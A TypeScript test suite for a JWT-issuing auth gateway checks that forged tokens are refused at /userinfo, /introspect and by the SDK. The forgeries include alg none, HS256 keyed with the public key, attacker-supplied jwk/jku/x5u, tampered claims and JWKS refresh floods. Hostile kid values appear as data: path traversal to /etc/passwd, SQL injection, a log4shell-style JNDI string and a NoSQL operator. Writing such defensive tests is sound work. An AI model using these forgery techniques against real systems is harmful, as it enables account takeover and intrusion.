// Forged and misused tokens (RFC 8725, RFC 9068 §4) at every place that reads one: GET /userinfo,
// POST /introspect and byline-gateway/verify. Each is refused; nothing is fetched on a token's say-so.
// More verifier-only cases: test/verify/verifier.test.ts.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { createVerifier } from 'byline-gateway/verify';
import type { CommenterTokenErrorCode } from 'byline-verify';
import {
  base64url,
  CompactSign,
  exportJWK,
  exportSPKI,
  generateKeyPair,
  importJWK,
  type JWK,
  SignJWT,
} from 'jose';
import { devLogin, redeem, redeemLogin, siteParams } from '../support/flow.js';
import { startGateway, type TestGateway, testSite } from '../support/gateway.js';

type Alg = 'ES256' | 'RS256' | 'EdDSA';

interface Context {
  gateway: TestGateway;
  /** A live access token of site blog, and its parts. */
  token: string;
  other: string;
  jwk: JWK;
  /** Where jku / x5u point: counts requests that must never come. */
  trap: string;
}

const enc = new TextEncoder();
const b64json = (value: unknown) => base64url.encode(JSON.stringify(value));
const parts = (token: string) => token.split('.') as [string, string, string];
const payloadOf = (token: string) =>
  JSON.parse(new TextDecoder().decode(base64url.decode(parts(token)[1]))) as Record<string, unknown>;

/** Signs `claims` with our own signing key: well-formed tokens that are wrong in one respect. */
async function ownSigned(
  gateway: TestGateway,
  claims: Record<string, unknown>,
  header: Record<string, unknown> = {},
) {
  const { kid, alg, key } = gateway.ctx.keys.signingKey();
  const protectedHeader = { alg, kid, typ: 'at+jwt', ...header };
  for (const [name, value] of Object.entries(protectedHeader))
    if (value === undefined) delete (protectedHeader as Record<string, unknown>)[name];
  // jose would refuse to sign an extension it does not know; tell it this one is "understood".
  const crit = Object.fromEntries(((header.crit as string[] | undefined) ?? []).map((name) => [name, true]));
  return new SignJWT(claims).setProtectedHeader(protectedHeader as { alg: string }).sign(key, { crit });
}

async function attackerSigned(claims: Record<string, unknown>, header: Record<string, unknown>) {
  const { privateKey, publicKey } = await generateKeyPair('ES256', { extractable: true });
  const jwk = await exportJWK(publicKey);
  const protectedHeader: Record<string, unknown> = { alg: 'ES256', typ: 'at+jwt', ...header };
  if (protectedHeader.jwk === 'attacker') protectedHeader.jwk = jwk;
  return new CompactSign(enc.encode(JSON.stringify(claims)))
    .setProtectedHeader(protectedHeader as { alg: string })
    .sign(privateKey);
}

function hmac(header: Record<string, unknown>, claims: unknown, key: Uint8Array) {
  return new CompactSign(enc.encode(JSON.stringify(claims)))
    .setProtectedHeader(header as { alg: string })
    .sign(key);
}

interface Forgery {
  name: string;
  make(c: Context): Promise<string> | string;
  /** What byline-gateway/verify must say. */
  sdk: CommenterTokenErrorCode | CommenterTokenErrorCode[];
  /**
   * Longer than Byline reads (8 KiB: introspection answers 400) or than Node accepts in a header at all
   * (16 KiB: /userinfo answers 431): refused before any parsing.
   */
  tooLong?: 'for Byline' | 'for Node';
}

const now = (c: Context) => Math.floor(c.gateway.clock.now() / 1000);

const forgeries: Forgery[] = [
  {
    name: 'alg none',
    make: (c) => `${b64json({ alg: 'none', typ: 'at+jwt' })}.${parts(c.token)[1]}.`,
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'alg None (case games)',
    make: (c) => `${b64json({ alg: 'None', typ: 'at+jwt' })}.${parts(c.token)[1]}.`,
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'alg none keeping the original signature',
    make: (c) =>
      `${b64json({ alg: 'none', typ: 'at+jwt', kid: c.jwk.kid })}.${parts(c.token)[1]}.${parts(c.token)[2]}`,
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'HS256 keyed with our public JWK (JSON)',
    make: (c) =>
      hmac(
        { alg: 'HS256', typ: 'at+jwt', kid: c.jwk.kid },
        payloadOf(c.token),
        enc.encode(JSON.stringify(c.jwk)),
      ),
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'HS256 keyed with our public key (PEM)',
    make: async (c) => {
      const pem = await exportSPKI((await importJWK(c.jwk, c.jwk.alg, { extractable: true })) as CryptoKey);
      return hmac({ alg: 'HS256', typ: 'at+jwt', kid: c.jwk.kid }, payloadOf(c.token), enc.encode(pem));
    },
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'HS256 keyed with the kid',
    make: (c) =>
      hmac(
        { alg: 'HS256', typ: 'at+jwt', kid: c.jwk.kid },
        payloadOf(c.token),
        enc.encode(String(c.jwk.kid)),
      ),
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'an embedded jwk (the attacker’s key)',
    make: (c) => attackerSigned(payloadOf(c.token), { jwk: 'attacker' }),
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'an embedded jwk under our kid',
    make: (c) => attackerSigned(payloadOf(c.token), { jwk: 'attacker', kid: c.jwk.kid }),
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'a jku pointing at the attacker',
    make: (c) => attackerSigned(payloadOf(c.token), { jku: `${c.trap}/jwks.json`, kid: 'attacker' }),
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'an x5u pointing at the attacker',
    make: (c) => attackerSigned(payloadOf(c.token), { x5u: `${c.trap}/cert.pem`, kid: c.jwk.kid }),
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'an x5c chain',
    make: (c) => attackerSigned(payloadOf(c.token), { x5c: ['MIIBszCCAVmgAwIBAgIU'] }),
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'an unknown kid',
    make: (c) => attackerSigned(payloadOf(c.token), { kid: 'unknown-kid' }),
    sdk: 'ERR_TOKEN_INVALID',
  },
  ...[
    '../../../../etc/passwd',
    "' OR '1'='1",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style kid, literally
    '${jndi:ldap://evil.example/a}',
    'x'.repeat(2000),
    '\u0000',
  ].map(
    (kid): Forgery => ({
      name: `a hostile kid ${JSON.stringify(kid.slice(0, 30))}`,
      make: (c) => attackerSigned(payloadOf(c.token), { kid }),
      sdk: 'ERR_TOKEN_INVALID',
    }),
  ),
  {
    name: 'a kid that is not a string',
    make: (c) => attackerSigned(payloadOf(c.token), { kid: { $ne: null } }),
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'a crit header',
    make: (c) =>
      ownSigned(c.gateway, payloadOf(c.token), { crit: ['urn:example:must'], 'urn:example:must': 1 }),
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'a tampered payload (another sub)',
    make: (c) => {
      const [h, , s] = parts(c.token);
      return `${h}.${b64json({ ...payloadOf(c.token), sub: 'wordpress:1' })}.${s}`;
    },
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'a spliced signature (another token’s)',
    make: (c) => `${parts(c.token)[0]}.${parts(c.token)[1]}.${parts(c.other)[2]}`,
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'a truncated signature',
    make: (c) => c.token.slice(0, -10),
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'expired (beyond the 60 s skew)',
    make: (c) => ownSigned(c.gateway, { ...payloadOf(c.token), iat: now(c) - 900, exp: now(c) - 61 }),
    sdk: 'ERR_TOKEN_EXPIRED',
  },
  {
    name: 'nbf in the future (beyond the skew)',
    make: (c) => ownSigned(c.gateway, { ...payloadOf(c.token), nbf: now(c) + 120 }),
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'another issuer',
    make: (c) => ownSigned(c.gateway, { ...payloadOf(c.token), iss: 'https://evil.example' }),
    sdk: 'ERR_TOKEN_ISSUER',
  },
  {
    name: 'another audience (same client_id)',
    make: (c) => ownSigned(c.gateway, { ...payloadOf(c.token), aud: 'other' }),
    sdk: 'ERR_TOKEN_AUDIENCE',
  },
  {
    name: 'typ JWT',
    make: (c) => ownSigned(c.gateway, payloadOf(c.token), { typ: 'JWT' }),
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'no typ',
    make: (c) => ownSigned(c.gateway, payloadOf(c.token), { typ: undefined }),
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'an upstream ID token replayed to us (foreign key, typ JWT, aud = the site)',
    make: (c) =>
      attackerSigned(
        {
          iss: `${c.gateway.url}/dev-idp`,
          sub: 'ada',
          aud: 'blog',
          iat: now(c),
          exp: now(c) + 300,
          nonce: 'n',
        },
        { typ: 'JWT', kid: 'dev-idp-key' },
      ),
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'an ID-token-shaped token signed with our key',
    make: (c) =>
      ownSigned(
        c.gateway,
        { iss: c.gateway.url, sub: 'dev:ada', aud: 'blog', iat: now(c), exp: now(c) + 300 },
        { typ: 'JWT' },
      ),
    sdk: 'ERR_TOKEN_INVALID',
  },
  {
    name: 'a 9 KB token (under the header limits)',
    tooLong: 'for Byline',
    make: (c) => `${parts(c.token)[0]}.${base64url.encode('x'.repeat(7000))}.${parts(c.token)[2]}`,
    sdk: 'ERR_TOKEN_MALFORMED',
  },
  {
    name: 'a 100 KB token',
    tooLong: 'for Node',
    make: (c) => `${parts(c.token)[0]}.${base64url.encode('x'.repeat(100_000))}.${parts(c.token)[2]}`,
    sdk: 'ERR_TOKEN_MALFORMED',
  },
  {
    name: 'a 5-part JWE',
    make: () =>
      `${b64json({ alg: 'dir', enc: 'A256GCM' })}.${'A'.repeat(10)}.${'B'.repeat(16)}.${'C'.repeat(20)}.${'D'.repeat(22)}`,
    sdk: 'ERR_TOKEN_MALFORMED',
  },
  {
    name: 'a JWT with a JSON array header',
    make: (c) => `${b64json(['alg', 'none'])}.${parts(c.token)[1]}.${parts(c.token)[2]}`,
    sdk: ['ERR_TOKEN_MALFORMED', 'ERR_TOKEN_INVALID'],
  },
  {
    name: 'not base64url at all',
    make: () => 'eyJ!!.$$$.%%%',
    sdk: 'ERR_TOKEN_MALFORMED',
  },
];

const algorithms: Alg[] = ['ES256', 'RS256', 'EdDSA'];

for (const alg of algorithms) {
  describe(`forged tokens against a gateway signing with ${alg}`, () => {
    const c = {} as Context;
    let trapServer: ReturnType<typeof createServer>;
    let trapHits = 0;
    let verify: (token: string) => Promise<unknown>;
    let jwksFetches = 0;

    before(async () => {
      trapServer = createServer((_req, res) => {
        trapHits++;
        res.end('{}');
      });
      await new Promise<void>((resolve) => trapServer.listen(0, '127.0.0.1', resolve));
      c.trap = `http://127.0.0.1:${(trapServer.address() as AddressInfo).port}`;
      c.gateway = await startGateway({
        config: {
          tokens: { algorithm: alg },
          sites: {
            blog: testSite,
            other: { origins: ['https://other.example'], redirectUris: ['https://other.example/callback'] },
          },
          rateLimits: { authorize: { points: 100_000, window: '1m' } },
        },
      });
      const tokenOf = async () => {
        const { location, verifier } = await devLogin(c.gateway, { name: 'Token Owner' });
        const { body } = await redeem(c.gateway, {
          grant_type: 'authorization_code',
          code: siteParams(location).get('code') as string,
          redirect_uri: 'https://blog.example/callback',
          code_verifier: verifier,
          client_id: 'blog',
        });
        return body.access_token as string;
      };
      c.token = await tokenOf();
      c.other = await tokenOf();
      c.jwk = ((await (await fetch(`${c.gateway.url}/.well-known/jwks.json`)).json()) as { keys: JWK[] })
        .keys[0] as JWK;
      const verifier = createVerifier({
        issuer: c.gateway.url,
        audience: 'blog',
        now: () => c.gateway.clock.now(),
        fetch: async (input, init) => {
          if (String(input).endsWith('/jwks.json')) jwksFetches++;
          return fetch(input, init);
        },
      });
      verify = (token) => verifier.verify(token);
      await verify(c.token); // warm: discovery and one JWKS fetch
    });
    after(async () => {
      await c.gateway.close();
      await new Promise((resolve) => trapServer.close(resolve));
    });

    test('the genuine token is accepted everywhere (the harness is sound)', async () => {
      const info = await fetch(`${c.gateway.url}/userinfo`, {
        headers: { authorization: `Bearer ${c.token}` },
      });
      assert.equal(info.status, 200);
      assert.equal((await introspect(c, c.token)).active, true);
      await verify(c.token);
    });

    for (const forgery of forgeries) {
      test(`${forgery.name} is refused at /userinfo, /introspect and by the SDK`, async () => {
        const token = await forgery.make(c);
        const fetchesBefore = jwksFetches;
        const info = await fetch(`${c.gateway.url}/userinfo`, {
          headers: { authorization: `Bearer ${token}` },
        });
        assert.equal(info.status, forgery.tooLong === 'for Node' ? 431 : 401);
        if (info.status === 401) {
          assert.match(info.headers.get('www-authenticate') ?? '', /^Bearer /);
          const body = (await info.json()) as Record<string, unknown>;
          assert.equal(body.error, 'invalid_token');
          assert.equal(body.sub, undefined);
        }
        if (forgery.tooLong) assert.equal((await introspectResponse(c, token)).status, 400);
        else assert.deepEqual(await introspect(c, token), { active: false });

        const codes = Array.isArray(forgery.sdk) ? forgery.sdk : [forgery.sdk];
        await assert.rejects(verify(token), (error: { name: string; code: CommenterTokenErrorCode }) => {
          assert.equal(error.name, 'CommenterTokenError');
          assert.ok(codes.includes(error.code), `${error.code} is not one of ${codes.join(', ')}`);
          return true;
        });
        assert.equal(trapHits, 0, 'jku / x5u were never fetched');
        assert.equal(jwksFetches, fetchesBefore, 'a forged token caused no JWKS fetch (within the cooldown)');
      });
    }

    test('another site’s genuine token is refused by this site’s SDK and introspection', async () => {
      const { location, verifier: pkceVerifier } = await devLogin(c.gateway, {
        name: 'Other Site Reader',
        params: { site: 'other', redirectUri: 'https://other.example/callback' },
      });
      const { body } = await redeem(c.gateway, {
        grant_type: 'authorization_code',
        code: siteParams(location).get('code') as string,
        redirect_uri: 'https://other.example/callback',
        code_verifier: pkceVerifier,
        client_id: 'other',
      });
      const token = body.access_token as string;
      await assert.rejects(verify(token), { code: 'ERR_TOKEN_AUDIENCE' });
      assert.deepEqual(await introspect(c, token), { active: false });
    });
  });
}

function introspectResponse(c: Context, token: string): Promise<Response> {
  return fetch(`${c.gateway.url}/introspect`, {
    method: 'POST',
    headers: {
      'content-type': 'application/x-www-form-urlencoded',
      authorization: `Basic ${Buffer.from(`blog:${testSite.secret}`).toString('base64')}`,
    },
    body: new URLSearchParams({ token }).toString(),
  });
}

async function introspect(c: Context, token: string): Promise<Record<string, unknown>> {
  const response = await introspectResponse(c, token);
  assert.equal(response.status, 200);
  return (await response.json()) as Record<string, unknown>;
}

describe('clock skew: 60 s tolerated, beyond refused', () => {
  let gateway: TestGateway;
  let token: string;
  before(async () => {
    gateway = await startGateway({ config: { tokens: { accessTtl: '10m' } } });
    const { location, verifier } = await devLogin(gateway, { name: 'Skewed Clock' });
    const { body } = await redeemLogin(gateway, { location, verifier });
    token = body.access_token as string;
  });
  after(() => gateway.close());

  const userinfo = async () =>
    (await fetch(`${gateway.url}/userinfo`, { headers: { authorization: `Bearer ${token}` } })).status;

  for (const [skew, status] of [
    [-59, 200],
    [59, 200],
    [61, 401],
    [600, 401],
  ] as const) {
    test(`/userinfo ${Math.abs(skew)} s ${skew < 0 ? 'before' : 'after'} exp answers ${status}`, async () => {
      const exp = payloadOf(token).exp as number;
      const saved = gateway.clock.time;
      gateway.clock.time = (exp + skew) * 1000;
      try {
        assert.equal(await userinfo(), status);
      } finally {
        gateway.clock.time = saved;
      }
    });
  }

  for (const [skew, ok] of [
    [59, true],
    [61, false],
  ] as const) {
    test(`the SDK ${ok ? 'accepts' : 'refuses'} a token ${skew} s past exp`, async () => {
      const exp = payloadOf(token).exp as number;
      const verifier = createVerifier({
        issuer: gateway.url,
        audience: 'blog',
        now: () => (exp + skew) * 1000,
      });
      if (ok) await verifier.verify(token);
      else await assert.rejects(verifier.verify(token), { code: 'ERR_TOKEN_EXPIRED' });
    });
  }

  test('the SDK refuses a token issued more than 60 s in the future', async () => {
    const iat = payloadOf(token).iat as number;
    const early = createVerifier({ issuer: gateway.url, audience: 'blog', now: () => (iat - 61) * 1000 });
    await assert.rejects(early.verify(token), { code: 'ERR_TOKEN_INVALID' });
    const slightly = createVerifier({ issuer: gateway.url, audience: 'blog', now: () => (iat - 59) * 1000 });
    await slightly.verify(token);
  });
});

describe('JWKS refresh storm in the SDK', () => {
  let gateway: TestGateway;
  before(async () => {
    gateway = await startGateway();
  });
  after(() => gateway.close());

  test('a flood of unknown-kid tokens causes at most one JWKS refetch per cooldown', async () => {
    const { location, verifier: pkceVerifier } = await devLogin(gateway, { name: 'Storm' });
    const { body } = await redeem(gateway, {
      grant_type: 'authorization_code',
      code: siteParams(location).get('code') as string,
      redirect_uri: 'https://blog.example/callback',
      code_verifier: pkceVerifier,
      client_id: 'blog',
    });
    let jwks = 0;
    const cooldown = 300;
    const verifier = createVerifier({
      issuer: gateway.url,
      audience: 'blog',
      cooldown,
      fetch: async (input, init) => {
        if (String(input).endsWith('/jwks.json')) jwks++;
        return fetch(input, init);
      },
    });
    await verifier.verify(body.access_token as string);
    assert.equal(jwks, 1);
    const unknownKid = await Promise.all(
      Array.from({ length: 5 }, (_, i) =>
        attackerSigned(payloadOf(body.access_token as string), { kid: `k${i}` }),
      ),
    );
    const flood = () =>
      Promise.all(
        Array.from({ length: 200 }, (_, i) =>
          verifier.verify(unknownKid[i % unknownKid.length] as string).then(
            () => assert.fail('accepted'),
            (error: { code: string }) => assert.equal(error.code, 'ERR_TOKEN_INVALID'),
          ),
        ),
      );
    await flood();
    assert.equal(jwks, 1, 'within the cooldown of the first fetch: no refetch');
    await new Promise((resolve) => setTimeout(resolve, cooldown + 50));
    await flood();
    assert.equal(jwks, 2, 'after the cooldown: one refetch for the whole flood');
    await flood();
    assert.equal(jwks, 2, 'and none again within the new cooldown');
  });
});
